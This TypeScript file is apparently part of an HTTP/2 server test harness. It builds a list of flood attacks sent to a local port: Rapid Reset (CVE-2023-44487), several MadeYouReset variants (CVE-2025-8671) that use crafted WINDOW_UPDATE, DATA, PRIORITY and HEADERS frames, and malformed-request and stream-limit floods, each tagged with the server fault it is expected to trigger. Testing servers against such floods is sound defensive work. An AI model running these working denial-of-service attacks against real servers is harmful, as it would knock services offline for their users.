import { ATTACK_MS, type Attack } from '../attack.ts';
import {
  chunks,
  END_HEADERS,
  END_STREAM,
  field,
  frame,
  headers,
  request,
  TYPE,
  uint32,
  WITH_PRIORITY,
  Wire,
} from '../wire.ts';

const STREAMS = 20_000;
const OVERFLOW = 0x7fff_ffff;
const CANCEL = uint32(8);

/** Every stream is opened, and then what `spoil` says ends it. */
function spoiled(name: string, faults: readonly string[], spoil: (id: number) => readonly Buffer[]): Attack {
  return {
    name,
    target: 'usual',
    faults,
    prepare() {
      const pieces = chunks(Array.from({ length: STREAMS }, (_, index) => spoil(2 * index + 1)).flat());
      return async (port) => {
        const wire = await Wire.greeted(port);
        await wire.flood(pieces, ATTACK_MS, false);
        wire.close();
        return wire.fate;
      };
    },
  };
}

const GET = request('/small');
const POST = request('/small', 'POST');

export const RESETS: readonly Attack[] = [
  spoiled('rapid reset (CVE-2023-44487)', ['rapid_reset'], (id) => [
    headers(id, GET),
    frame(TYPE.RST_STREAM, 0, id, CANCEL),
  ]),
  {
    name: 'rapid reset, each once the request is on its way',
    target: 'usual',
    faults: ['rapid_reset'],
    prepare() {
      const bursts: Buffer[] = [];
      for (let first = 1; first < 2 * STREAMS; first += 200) {
        const ids = Array.from({ length: 100 }, (_, index) => first + 2 * index);
        bursts.push(Buffer.concat(ids.map((id) => headers(id, request('/slow')))));
        bursts.push(Buffer.concat(ids.map((id) => frame(TYPE.RST_STREAM, 0, id, CANCEL))));
      }
      return async (port) => {
        const wire = await Wire.greeted(port);
        await wire.flood(bursts, ATTACK_MS, false);
        wire.close();
        return wire.fate;
      };
    },
  },
  spoiled('MadeYouReset by a window that overflows (CVE-2025-8671)', ['rapid_reset'], (id) => [
    headers(id, GET),
    frame(TYPE.WINDOW_UPDATE, 0, id, uint32(OVERFLOW)),
  ]),
  spoiled('MadeYouReset by a WINDOW_UPDATE of 0', ['rapid_reset'], (id) => [
    headers(id, GET),
    frame(TYPE.WINDOW_UPDATE, 0, id, uint32(0)),
  ]),
  spoiled('MadeYouReset by DATA on a half-closed stream', ['rapid_reset'], (id) => [
    headers(id, GET),
    frame(TYPE.DATA, 0, id, Buffer.from('x')),
  ]),
  spoiled('MadeYouReset by a second head', ['rapid_reset'], (id) => [
    headers(id, POST, END_HEADERS),
    headers(id, POST, END_HEADERS),
  ]),
  spoiled('MadeYouReset by more DATA than content-length says', ['rapid_reset'], (id) => [
    headers(id, Buffer.concat([POST, field('content-length', '1')]), END_HEADERS),
    frame(TYPE.DATA, END_STREAM, id, Buffer.from('xy')),
  ]),
  spoiled('MadeYouReset by PRIORITY of a wrong size', ['invalid_frame_size'], (id) => [
    headers(id, GET),
    frame(TYPE.PRIORITY, 0, id, Buffer.alloc(4)),
  ]),
  spoiled('MadeYouReset by a stream that depends on itself', ['rapid_reset'], (id) => [
    frame(
      TYPE.HEADERS,
      END_STREAM | END_HEADERS | WITH_PRIORITY,
      id,
      Buffer.concat([uint32(id), Buffer.from([0]), GET]),
    ),
  ]),
  spoiled('requests that are malformed', ['rapid_reset'], (id) => [
    headers(id, Buffer.concat([GET, field('connection', 'close')])),
  ]),
  spoiled('requests beyond the streams that are allowed', ['refused_stream_flood'], (id) => [
    headers(id, request('/slow')),
  ]),
];
